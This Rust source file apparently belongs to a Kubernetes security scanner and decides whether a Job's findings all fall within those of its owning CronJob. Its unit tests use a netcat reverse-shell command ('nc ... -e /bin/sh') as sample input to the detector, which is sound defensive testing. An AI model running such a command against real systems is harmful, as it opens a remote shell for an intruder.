//! Whether a Job is a run of its CronJob and nothing more: then the CronJob's report speaks for it.
//!
//! An ownerReference proves nothing, since whoever creates a Job writes it. What a Job does is compared instead: a Job
//! all of whose findings are among those of its CronJob adds nothing that its reader does not know.

use std::collections::BTreeMap;

use crate::assess::Assessment;
use crate::detect::Hit;
use crate::fingerprint::fingerprint;

/// The findings of a workload, for comparing a Job with its CronJob.
///
/// Of each finding there is a hash of 128 bits: long enough that nobody can craft a finding that passes for another.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct FindingSet {
    hashes: Box<[u128]>,
    /// By rule, how many hits there were, where there were more than are kept.
    uncounted: Box<[(&'static str, usize)]>,
}

impl FindingSet {
    /// The findings of an assessment.
    pub fn of(assessment: &Assessment) -> Self {
        let owner = owner_of_run(assessment);
        let mut hashes: Vec<u128> = assessment
            .findings
            .by_rule()
            .flat_map(|(rule, hits)| hits.iter().map(move |hit| hash(rule.id, hit, owner)))
            .collect();
        hashes.sort_unstable();
        hashes.dedup();
        // Both go through the rules in the same order.
        let counted = assessment.findings.by_rule().zip(assessment.findings.totals());
        let uncounted: Vec<_> = counted
            .filter(|((_, kept), (_, total))| kept.len() < *total)
            .map(|(_, (rule, total))| (rule.id, total))
            .collect();
        Self { hashes: hashes.into(), uncounted: uncounted.into() }
    }

    /// Whether each finding here is among those of `other`.
    pub fn is_within(&self, other: &Self) -> bool {
        let totals: BTreeMap<_, _> = other.uncounted.iter().copied().collect();
        self.hashes.iter().all(|hash| other.hashes.binary_search(hash).is_ok())
            && self.uncounted.iter().all(|(rule, total)| totals.get(rule).is_some_and(|most| total <= most))
    }
}

/// The name of the CronJob that a Job says it was made by, if it is named as its controller names Jobs: with the minute
/// behind it.
fn owner_of_run(assessment: &Assessment) -> Option<&str> {
    let owner = assessment.owner.as_ref()?.name.as_str();
    let minute = assessment.name.strip_prefix(owner)?.strip_prefix('-')?;
    let is_number = !minute.is_empty() && minute.bytes().all(|byte| byte.is_ascii_digit());
    is_number.then_some(owner)
}

/// The same for a finding in a Job and in the template of a CronJob. What is found in the name of a run is found in the
/// name of its `owner`.
fn hash(rule: &str, hit: &Hit, owner: Option<&str>) -> u128 {
    let path = hit.path.strip_prefix("spec.jobTemplate.").unwrap_or(&hit.path);
    let container = hit.container.as_ref().map_or("", |name| name.as_str());
    let evidence = owner.filter(|_| path == "metadata.name").unwrap_or(hit.evidence.as_str());
    fingerprint(&[rule, container, path, evidence])
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::assess::assess;
    use crate::workload::Kind;
    use crate::workload::decode::from_json;

    fn set(kind: Kind, command: &str, image: &str) -> FindingSet {
        let pod = format!(
            r#"{{"containers":[{{"name":"c","image":"{image}","command":["sh","-c","{command}"]}}]}}"#
        );
        let json = match kind {
            Kind::Job => format!(r#"{{"metadata":{{"name":"x-1"}},"spec":{{"template":{{"spec":{pod}}}}}}}"#),
            Kind::CronJob => format!(
                r#"{{"metadata":{{"name":"x"}},"spec":{{"schedule":"@daily","jobTemplate":{{"spec":{{"template":{{"spec":{pod}}}}}}}}}}}"#
            ),
        };
        FindingSet::of(&assess(kind, &from_json(json.as_bytes()).unwrap()))
    }

    #[test]
    fn a_run_is_within_its_cron_job() {
        let command = "nc 192.0.2.10 4444 -e /bin/sh";
        let (job, cron) = (set(Kind::Job, command, "busybox"), set(Kind::CronJob, command, "busybox"));
        assert!(!job.hashes.is_empty());
        assert!(job.is_within(&cron));
    }

    #[test]
    fn another_command_or_another_target_is_not() {
        let cron = set(Kind::CronJob, "nc 192.0.2.10 4444 -e /bin/sh", "busybox");
        assert!(!set(Kind::Job, "nc 192.0.2.11 4444 -e /bin/sh", "busybox").is_within(&cron));
        let benign = set(Kind::CronJob, "backup", "registry.example.test/backup:1");
        assert!(!set(Kind::Job, "nc 192.0.2.10 4444 -e /bin/sh", "busybox").is_within(&benign));
        assert!(set(Kind::Job, "backup", "registry.example.test/backup:1").is_within(&cron));
    }
}
